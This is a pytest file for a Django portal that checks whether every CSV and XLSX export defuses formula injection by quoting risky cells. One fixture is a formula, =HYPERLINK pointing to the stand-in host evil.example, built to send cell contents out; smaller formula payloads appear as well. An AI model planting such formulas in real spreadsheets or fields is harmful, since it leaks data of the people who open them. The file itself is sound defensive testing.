"""Every spreadsheet the portal writes neutralises formulas (issue 22, finding 3; core/spreadsheets.py).

OWASP's CSV injection guidance: a cell starting with = + - @ TAB or CR gets a leading single quote.
One test per export, and one that no module writes CSV or XLSX past core.spreadsheets.
"""

import ast
import csv
import io
import pathlib
import zipfile

import openpyxl
import pytest
from django.conf import settings
from django.urls import reverse
from django.utils import timezone

from core.spreadsheets import FORMULA_STARTS, safe_cell, unsafe_cell
from depository.models import Entry
from depository.spreadsheets import EntryResource
from meetings.models import Meeting, Participation
from people.models import Person
from tests.depository_helpers import make_entry
from usage.models import MonthlyUsage

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def rows_of(text):
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_is_quoted_and_restored(start):
    value = start + "1+1"
    assert safe_cell(value) == "'" + value
    assert unsafe_cell(safe_cell(value)) == value
    assert safe_cell("Plain title") == "Plain title" and safe_cell(-3) == -3


def test_use_statistics_csv(organizer_client):
    entry = make_entry(HYPERLINK, kind="tool")
    MonthlyUsage.objects.create(entry=entry, month=timezone.now().date().replace(day=1), views=3, downloads=1)
    response = organizer_client.get("/admin/usage/monthlyusage/", {"format": "csv"})
    assert response.status_code == 200
    rows = rows_of(b"".join(response.streaming_content).decode())
    assert rows[1][2] == "'" + HYPERLINK
    assert rows[1][4:] == ["3", "1"]  # counts stay numbers


def test_literature_csv(client):
    make_entry(HYPERLINK, kind="publication", summary="@SUM(A1)")
    response = client.get(reverse("depository:literature-export", args=["csv"]))
    [row] = csv.DictReader(io.StringIO(response.content.decode().lstrip("\ufeff")))
    assert row["title"] == "'" + HYPERLINK and row["summary"] == "'@SUM(A1)"


def test_briefing_pack_csv(client, media_roots):
    make_entry(HYPERLINK, publisher="\t=1+1")
    response = client.get(reverse("depository:pack"))
    pack = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    [row] = csv.DictReader(io.StringIO(pack.read("entries.csv").decode().lstrip("\ufeff")))
    assert row["title"] == "'" + HYPERLINK and row["publisher"] == "'\t=1+1"


@pytest.mark.parametrize("file_format", ["0", "1"])  # the admin's CSV and XLSX
def test_admin_entry_export(organizer_client, file_format):
    Entry.objects.create(kind="tool", title=HYPERLINK, slug="formula")
    data = {"resource": "0", "format": file_format}
    data.update({f"entryresource_{name}": "on" for name in EntryResource._meta.fields})
    response = organizer_client.post(reverse("admin:depository_entry_export"), data)
    assert response.status_code == 200
    if file_format == "0":
        title = rows_of(response.content.decode("utf-8-sig"))[1][0]
    else:
        cell = openpyxl.load_workbook(io.BytesIO(response.content)).active.cell(row=2, column=1)
        assert cell.data_type == "s"
        title = cell.value
    assert title == "'" + HYPERLINK


def test_participant_list_csv(organizer_client):
    meeting = Meeting.objects.create(name="Inception", slug="inception", start_date=timezone.now().date())
    person = Person.objects.create(name="-2+3 Someone", slug="someone")
    Participation.objects.create(meeting=meeting, person=person, title="\r=1+1")
    response = organizer_client.get(reverse("admin:meetings_meeting_export_participants", args=[meeting.pk]))
    assert rows_of(response.content.decode())[1][:2] == ["'-2+3 Someone", "'\r=1+1"]


WRITERS = {("csv", "writer"), ("csv", "DictWriter"), ("openpyxl", "Workbook"), ("xlsxwriter", "Workbook")}


def test_no_module_writes_a_spreadsheet_past_core_spreadsheets():
    """A new export that calls csv.writer (or builds a workbook) itself would skip the guard."""
    base = pathlib.Path(settings.BASE_DIR)
    found = []
    for app in ("core", "places", "people", "depository", "meetings", "members", "alerts", "usage", "portal"):
        for path in (base / app).rglob("*.py"):
            if "migrations" in path.parts or path == base / "core" / "spreadsheets.py":
                continue
            for node in ast.walk(ast.parse(path.read_text())):
                if (
                    isinstance(node, ast.Attribute)
                    and isinstance(node.value, ast.Name)
                    and (node.value.id, node.attr) in WRITERS
                ):
                    found.append(f"{path.relative_to(base)}:{node.lineno} {node.value.id}.{node.attr}")
    assert found == []
